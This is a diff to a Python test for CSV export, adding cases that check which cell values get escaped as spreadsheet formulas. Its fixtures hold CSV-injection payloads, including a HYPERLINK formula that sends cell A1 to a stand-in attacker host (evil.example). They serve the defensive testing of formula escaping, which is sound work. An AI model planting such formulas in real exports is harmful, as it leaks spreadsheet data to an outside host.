@@ -336,6 +336,8 @@ def test_formulas_in_csv_cells_are_escaped_only_when_asked(workspace, escape):
         profile(1, a=True, name='=HYPERLINK("http://evil.example/?"&A1,"click")'),
         profile(2, a=True, name="@SUM(1+1)", spend=-5.0),
         profile(3, a=True, name="Ann"),
+        profile(4, a=True, name="-5.25"),  # a number held as text (PostgreSQL's numeric)
+        profile(5, a=True, name="-1+2"),  # not a plain number: a spreadsheet computes it
     ]
     people[2]["customer_id"] = "-c00003"  # a key is what joins: never changed
     extra = "  escape_formulas: true\n" if escape else ""
@@ -344,9 +346,21 @@ def test_formulas_in_csv_cells_are_escaped_only_when_asked(workspace, escape):
     text = only(exported(ws), "full").read_text()
     names = {r["FIRST_NAME"] for r in rows(only(exported(ws), "full"))}
     if escape:
-        assert names == {'\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'@SUM(1+1)", "Ann"}
+        assert names == {
+            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
+            "'@SUM(1+1)",
+            "Ann",
+            "-5.25",
+            "'-1+2",
+        }
     else:
-        assert names == {'=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)", "Ann"}
+        assert names == {
+            '=HYPERLINK("http://evil.example/?"&A1,"click")',
+            "@SUM(1+1)",
+            "Ann",
+            "-5.25",
+            "-1+2",
+        }
     assert ",-5.0" in text  # a number is never escaped
     assert "-c00003" in {r["customer_id"] for r in rows(only(exported(ws), "full"))}
 
